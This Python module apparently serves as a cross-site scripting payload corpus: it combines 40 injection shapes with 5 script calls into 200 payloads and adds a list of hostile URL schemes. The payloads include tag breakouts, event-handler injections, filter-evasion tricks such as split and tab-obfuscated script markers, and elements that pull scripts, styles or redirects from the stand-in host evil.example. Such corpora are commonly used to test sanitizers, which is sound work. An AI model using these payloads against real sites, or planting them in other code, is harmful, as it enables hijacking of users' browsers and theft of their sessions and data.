"""Two hundred ways to get a browser to run what a text says: each would open a dialog or ask another host."""

from __future__ import annotations

_CALLS = ("alert(1)", "confirm(1)", "prompt(1)", "top['al'+'ert'](1)", "fetch('https://evil.example/x')")
_SHAPES = (
    "<script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style></script><script>{c}</script>",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><b title='{c}'>",
    "<img src=x onerror={c}>",
    '"><img src=x onerror={c}>',
    "<img src=https://evil.example/p.png onload={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{c}'><text y=9>x</text></a></svg>",
    "<body onload={c}>",
    "<iframe src=\"javascript:{c}\"></iframe>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<object data=\"javascript:{c}\"></object>",
    "<embed src=\"javascript:{c}\">",
    "<details open ontoggle={c}>x</details>",
    "<input autofocus onfocus={c}>",
    "<video><source onerror={c}></video>",
    "<marquee onstart={c}>x</marquee>",
    "<a href=\"javascript:{c}\">x</a>",
    "<a href=\"java&#x09;script:{c}\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<link rel=stylesheet href=https://evil.example/x.css><i title='{c}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{c}'>",
    "<base href=https://evil.example/><i title='{c}'>",
    "<form action=https://evil.example/><button autofocus onfocus={c}>x</button></form>",
    "\" onmouseover={c} autofocus onfocus={c} x=\"",
    "' onmouseover={c} autofocus onfocus={c} x='",
    "`-{c}-`",
    "';{c};//",
    "\\\";{c};//",
    "{{{{constructor.constructor('{c}')()}}}}",
    "<style>@import 'https://evil.example/x.css';</style><i title='{c}'>",
    "<div hx-get='https://evil.example/x' hx-trigger=load hx-on:load='{c}'></div>",
)  # fmt: skip
PAYLOADS = tuple(shape.format(c=call) for shape in _SHAPES for call in _CALLS)
ADDRESSES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "https://evil.example/\"><script>alert(1)</script>", "//evil.example/x", "vbscript:x")  # fmt: skip
